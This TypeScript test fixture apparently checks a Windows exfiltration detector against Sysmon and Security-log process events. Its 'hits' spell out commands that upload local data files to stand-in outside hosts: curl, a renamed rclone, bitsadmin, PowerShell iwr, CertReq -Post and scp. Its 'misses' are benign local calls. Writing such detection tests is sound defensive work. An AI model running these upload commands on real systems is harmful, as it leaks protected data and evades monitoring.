import { auditedStart, proof, set, sysmonStart } from '../../proof';

const CURL = 'C:\\Windows\\System32\\curl.exe';
const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';

export default proof({
  plain: true,
  hits: [
    set(
      'curl sends a file as a form',
      sysmonStart({
        image: CURL,
        commandLine: 'curl -sS -F "file=@E:\\work\\cohort.csv" https://files.example.org',
      })
    ),
    set(
      'a renamed rclone copies to a remote',
      sysmonStart({
        image: 'C:\\Users\\Public\\svc.exe',
        originalFileName: 'rclone.exe',
        commandLine: 'svc.exe --config c.ini COPY E:\\data remote:bucket --transfers 8',
      })
    ),
    set(
      'BITS uploads, seen by the Security log',
      auditedStart({
        image: 'C:\\Windows\\System32\\bitsadmin.exe',
        commandLine: 'BITSADMIN /transfer j /UPLOAD /priority high https://x.example/a E:\\work\\a.csv',
      })
    ),
    set(
      'PowerShell puts a file, by the alias',
      sysmonStart({
        image: POWERSHELL,
        commandLine: 'powershell iwr https://x.example/a -method put -infile E:\\work\\a.csv',
      })
    ),
    set(
      'certreq, which is there on every Windows, posts a file',
      sysmonStart({
        image: 'C:\\Windows\\System32\\certreq.exe',
        originalFileName: 'CertReq.exe',
        commandLine: 'CertReq -Post -config https://x.example/ E:\\work\\a.csv',
      })
    ),
    set(
      'scp from the command line',
      sysmonStart({
        image: 'C:\\Windows\\System32\\OpenSSH\\scp.exe',
        originalFileName: '-',
        commandLine: 'scp E:\\work\\a.csv ada@203.0.113.5:',
      })
    ),
  ],
  misses: [
    set(
      'curl reads the state of a notebook server',
      sysmonStart({ image: CURL, commandLine: 'curl -fsS http://localhost:8888/api/status' })
    ),
    set(
      'rclone tells its version',
      sysmonStart({
        image: 'C:\\Tools\\rclone.exe',
        originalFileName: 'rclone.exe',
        commandLine: 'rclone version --check',
      })
    ),
    set(
      'BITS lists its jobs, seen by the Security log',
      auditedStart({
        image: 'C:\\Windows\\System32\\bitsadmin.exe',
        commandLine: 'bitsadmin /list /allusers',
      })
    ),
    set(
      'PowerShell fetches a page of the mirror',
      sysmonStart({
        image: POWERSHELL,
        commandLine: 'powershell iwr http://pypi.tre.example/simple -UseBasicParsing',
      })
    ),
    set(
      'certreq makes a request for a certificate',
      sysmonStart({
        image: 'C:\\Windows\\System32\\certreq.exe',
        originalFileName: 'CertReq.exe',
        commandLine: 'certreq -new policy.inf request.csr',
      })
    ),
    set(
      'curl sends a cell to a kernel on the same machine',
      sysmonStart({ image: CURL, commandLine: 'curl -d "{}" http://127.0.0.1:8888/api/kernels' })
    ),
  ],
});
